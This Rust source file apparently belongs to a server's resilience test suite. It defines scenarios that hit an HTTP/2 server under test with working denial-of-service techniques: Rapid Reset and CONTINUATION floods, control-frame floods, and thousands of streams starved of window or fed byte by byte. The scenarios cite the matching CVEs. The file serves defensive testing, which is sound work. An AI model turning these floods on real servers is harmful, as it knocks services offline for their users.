//! Clients that let HTTP/2 work for nothing, or that hold its streams.

use std::io;
use std::net::IpAddr;
use std::time::Duration;

use super::{PLAIN, Scenario};
use crate::attack::http2::{
    CONTINUATION, DATA, END_HEADERS, END_STREAM, Frames, HEADERS, PING, RST_STREAM, SETTINGS, WINDOW_UPDATE, frame,
    head,
};
use crate::attack::{Arena, Outcome, Peer, done, elsewhere};

/// Frames that cost their sender nothing: CVE-2023-44487, CVE-2024-27316, CVE-2019-9512, -9514, -9515, -9518.
///
/// Memory: a connection at a time of each kind.
pub const FLOODS: Scenario = Scenario {
    name: "http2-floods",
    title: "floods of SETTINGS, PING, WINDOW_UPDATE, empty DATA and unknown frames, of requests that are reset, of lists of headers without end",
    lasts_ms: 2_000,
    grows_mib_max: 16,
    attack: |arena| Box::pin(floods(arena)),
    ..PLAIN
};

/// Streams that stay: responses that get no window, bodies that come byte by byte, windows that change again and again.
///
/// Memory: 2,000 responses in part, 2,000 bodies, and 20 connections with TLS.
pub const STREAMS: Scenario = Scenario {
    name: "http2-streams",
    title: "2,000 responses without a window and 2,000 bodies byte by byte, beside windows that change again and again, over TLS",
    is_over_tls: true,
    lasts_ms: 2_500,
    grows_mib_max: 64,
    attack: |arena| Box::pin(streams(arena)),
    ..PLAIN
};

async fn floods(arena: Arena) -> io::Result<Outcome> {
    let post = frame(HEADERS, END_HEADERS, 1, &head(arena, false, "POST", "/cometd"));
    let get = head(arena, false, "GET", "/healthz");
    let reset = |stream| {
        [frame(HEADERS, END_HEADERS | END_STREAM, stream, &get), frame(RST_STREAM, 0, stream, &CANCEL)].concat()
    };
    let kinds = [
        (vec![], frame(SETTINGS, 0, 0, &[]).repeat(FLOOD)),
        (vec![], frame(PING, 0, 0, &[7; 8]).repeat(FLOOD)),
        // One byte at a time.
        (vec![], frame(WINDOW_UPDATE, 0, 0, &[0, 0, 0, 1]).repeat(FLOOD)),
        (post, frame(DATA, 0, 1, &[]).repeat(FLOOD)),
        (vec![], frame(UNKNOWN, 0, 0, &[]).repeat(FLOOD)),
        (vec![], (1..).step_by(2).take(FLOOD).flat_map(reset).collect()),
        (frame(HEADERS, 0, 1, &get), frame(CONTINUATION, 0, 1, &[]).repeat(FLOOD)),
    ];
    let mut attackers = tokio::task::JoinSet::new();
    for (begin, frames) in kinds {
        attackers.spawn_local(async move { flood(arena, &begin, &frames).await });
    }
    let sent = attackers.join_all().await;
    let did = format!("{} × {FLOOD} frames of {} kinds", sent.iter().sum::<u64>(), sent.len());
    Ok(Outcome::did(sent.into_iter().min().unwrap_or(0), did))
}

/// Sends the same frames again and again, on a new connection when the server has ended one. Returns the number of times.
async fn flood(arena: Arena, begin: &[u8], frames: &[u8]) -> u64 {
    let mut sent = 0;
    while !arena.is_over()
        && let Ok(Some(mut client)) = arena.during(Frames::open(arena, stranger(), false, &[])).await
    {
        // The server may end it at any time.
        let _ = client.send(begin).await;
        while !arena.is_over() && matches!(arena.during(client.send(frames)).await, Ok(Some(()))) {
            sent += 1;
        }
    }
    sent
}

async fn streams(arena: Arena) -> io::Result<Outcome> {
    let held = elsewhere(arena, move || held(arena));
    let games = elsewhere(arena, move || async move {
        let windows = [frame(SETTINGS, 0, 0, &NO_WINDOW), frame(SETTINGS, 0, 0, &A_WINDOW)].concat();
        let once = async || {
            let mut client = Frames::open(arena, stranger(), true, &NO_WINDOW).await?;
            client.send(&requests(arena, "GET", "/", END_STREAM)).await?;
            while client.send(&windows).await.is_ok() {}
            Ok(())
        };
        Ok(arena.again(1, once).await)
    });
    let (held, games) = (done(held).await?, done(games).await?);
    let did = format!("{held} streams held, {games} rounds of windows that change");
    Ok(Outcome::did(if held > 0 { games } else { 0 }, did))
}

/// Opens streams whose responses get no window, and as many whose bodies come byte by byte.
async fn held(arena: Arena) -> io::Result<usize> {
    let (mut silent, mut dripping) = (Vec::new(), Vec::new());
    for _ in 0..CONNECTIONS {
        let mut client = Frames::open(arena, stranger(), true, &NO_WINDOW).await?;
        client.send(&requests(arena, "GET", "/", END_STREAM)).await?;
        silent.push(client);
        let mut client = Frames::open(arena, stranger(), true, &[]).await?;
        client.send(&requests(arena, "POST", "/cometd", 0)).await?;
        dripping.push(client);
    }
    let bytes: Vec<u8> = ids().flat_map(|stream| frame(DATA, 0, stream, b" ")).collect();
    while !arena.is_over() {
        for client in &mut dripping {
            // The server may have ended it.
            let _ = client.send(&bytes).await;
        }
        tokio::time::sleep(BYTE_EVERY).await;
    }
    Ok((silent.len() + dripping.len()) * STREAMS_EACH)
}

/// The same request on each stream of a connection.
fn requests(arena: Arena, method: &str, path: &str, flags: u8) -> Vec<u8> {
    let head = head(arena, true, method, path);
    ids().flat_map(|stream| frame(HEADERS, END_HEADERS | flags, stream, &head)).collect()
}

fn ids() -> impl Iterator<Item = u32> {
    (1..).step_by(2).take(STREAMS_EACH)
}

/// Another address than that of the witnesses.
fn stranger() -> Peer {
    Peer { address: Some(IpAddr::from([127, 0, 0, 9])), receive_bytes: None }
}

const CONNECTIONS: usize = 20;
const STREAMS_EACH: usize = 100;
const BYTE_EVERY: Duration = Duration::from_millis(20);
/// Frames that are sent at once.
const FLOOD: usize = 1_000;
/// A kind that no document defines.
const UNKNOWN: u8 = 99;
/// The code of a reset (RFC 9113 §7).
const CANCEL: [u8; 4] = [0, 0, 0, 8];
/// SETTINGS_INITIAL_WINDOW_SIZE: 0, and 65,535 bytes.
const NO_WINDOW: [u8; 6] = [0, 4, 0, 0, 0, 0];
const A_WINDOW: [u8; 6] = [0, 4, 0, 0, 0xFF, 0xFF];
